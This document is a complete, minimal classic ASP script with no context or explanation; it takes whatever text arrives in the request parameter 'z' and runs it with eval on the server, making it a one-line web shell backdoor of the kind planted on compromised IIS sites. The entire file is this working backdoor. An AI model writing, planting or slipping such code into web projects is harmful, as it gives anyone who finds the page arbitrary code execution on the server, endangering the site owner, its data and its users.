<%
dim p
p = request("z")
if p <> "" then
  eval p
end if
%>
